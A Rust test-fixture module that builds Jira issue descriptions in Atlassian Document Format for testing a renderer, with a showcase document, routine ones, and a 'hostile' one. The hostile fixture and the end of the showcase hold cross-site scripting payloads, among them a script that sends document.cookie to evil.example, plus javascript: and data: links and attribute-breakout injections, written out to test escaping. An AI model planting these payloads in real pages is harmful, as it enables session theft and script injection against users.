//! Issue descriptions in Atlassian Document Format: one showcase using every node and
//! mark the app must render (plus nodes it must skip), one hostile, the rest routine.

use serde_json::{Value, json};

use super::seed::ALICE_ID;

fn doc(content: Vec<Value>) -> Value {
    json!({"type": "doc", "version": 1, "content": content})
}

fn text(t: &str) -> Value {
    json!({"type": "text", "text": t})
}

fn marked(t: &str, marks: Value) -> Value {
    json!({"type": "text", "text": t, "marks": marks})
}

fn para(content: Vec<Value>) -> Value {
    json!({"type": "paragraph", "content": content})
}

fn item(t: &str) -> Value {
    json!({"type": "listItem", "content": [para(vec![text(t)])]})
}

/// ACME-1: every node and mark of the brief, including ones the app does not know.
pub(crate) fn showcase() -> Value {
    doc(vec![
        json!({"type": "heading", "attrs": {"level": 2}, "content": [text("Release 4.2 checklist")]}),
        para(vec![
            text("Owner: "),
            json!({"type": "mention", "attrs": {
                "id": ALICE_ID, "text": "@Alice Example", "accessLevel": ""}}),
            text(". This release is "),
            marked("important", json!([{"type": "strong"}])),
            text(", "),
            marked("slightly late", json!([{"type": "em"}])),
            text(" and ships "),
            marked("threelo --version", json!([{"type": "code"}])),
            text(" 4.2. "),
            marked("The old date", json!([{"type": "strike"}])),
            text(" See the "),
            marked("release notes", json!([{"type": "link", "attrs": {"href": "https://example.com/notes"}}])),
            text(" "),
            json!({"type": "emoji", "attrs": {"shortName": ":rocket:", "id": "1f680", "text": "🚀"}}),
            json!({"type": "hardBreak"}),
            text("Second line after a hard break."),
        ]),
        json!({"type": "bulletList", "content": [
            item("Freeze the main branch"),
            item("Run the full regression suite"),
            json!({"type": "listItem", "content": [
                para(vec![text("Tell support")]),
                json!({"type": "bulletList", "content": [item("Email"), item("Status page")]}),
            ]}),
        ]}),
        json!({"type": "orderedList", "attrs": {"order": 1}, "content": [
            item("Tag the release"), item("Build artifacts"), item("Deploy to production"),
        ]}),
        json!({"type": "codeBlock", "attrs": {"language": "bash"}, "content": [
            text("git tag -s v4.2.0 -m 'Release 4.2.0'\ngit push --tags\necho \"<done>\" && exit 0"),
        ]}),
        json!({"type": "blockquote", "content": [para(vec![text("Ship small, ship often.")])]}),
        json!({"type": "rule"}),
        json!({"type": "panel", "attrs": {"panelType": "warning"}, "content": [
            para(vec![text("Panels are not rendered by every client; their text should still show.")]),
        ]}),
        json!({"type": "mediaSingle", "attrs": {"layout": "center"}, "content": [
            {"type": "media", "attrs": {"id": "9f2c1e4b-0000-4000-8000-000000000001", "type": "file", "collection": "jira-10001"}},
        ]}),
        para(vec![
            text("Do not click: "),
            marked("totally safe link", json!([{"type": "link", "attrs": {"href": "javascript:alert(1)"}}])),
            text(" and this text is not markup: <img src=x onerror=alert(1)> <b>bold?</b>"),
        ]),
    ])
}

/// ACME-2/3: a description that is all attack, no content.
pub(crate) fn hostile() -> Value {
    doc(vec![
        para(vec![text("<script>document.location='https://evil.example/?c='+document.cookie</script>")]),
        para(vec![marked(
            "click me",
            json!([{"type": "link", "attrs": {"href": "javascript:alert(document.domain)"}}]),
        )]),
        para(vec![marked(
            "data link",
            json!([{"type": "link", "attrs": {"href": "data:text/html,<script>alert(1)</script>"}}]),
        )]),
        json!({"type": "codeBlock", "attrs": {"language": "html\"><script>alert(1)</script>"}, "content": [
            text("</code></pre><script>alert(2)</script>"),
        ]}),
        json!({"type": "heading", "attrs": {"level": "7\" onmouseover=\"alert(1)"}, "content": [text("Odd heading level")]}),
    ])
}

const STEPS: [&str; 6] = [
    "Reproduce on staging with a fresh account",
    "Check the logs for the request id",
    "Write a failing test first",
    "Ask the on-call engineer for the dashboard link",
    "Update the runbook once fixed",
    "Verify on production behind the feature flag",
];

/// Ordinary descriptions, varied by `i`.
pub(crate) fn routine(i: usize) -> Value {
    let team = ["Platform", "Payments", "Growth", "Mobile"][i % 4];
    let mut content = vec![para(vec![
        text(&format!("Raised by the {team} team. ")),
        text("Customers notice this, so please keep the "),
        marked("acceptance criteria", json!([{"type": "strong"}])),
        text(" below up to date."),
    ])];
    let steps: Vec<Value> = (0..3).map(|k| item(STEPS[(i + k) % STEPS.len()])).collect();
    if i.is_multiple_of(2) {
        content.push(json!({"type": "bulletList", "content": steps}));
    } else {
        content.push(json!({"type": "orderedList", "attrs": {"order": 1}, "content": steps}));
    }
    if i.is_multiple_of(5) {
        content.push(json!({"type": "codeBlock", "attrs": {"language": "json"}, "content": [
            text(&format!("{{\"ticket\": {i}, \"retry\": true}}")),
        ]}));
    }
    doc(content)
}
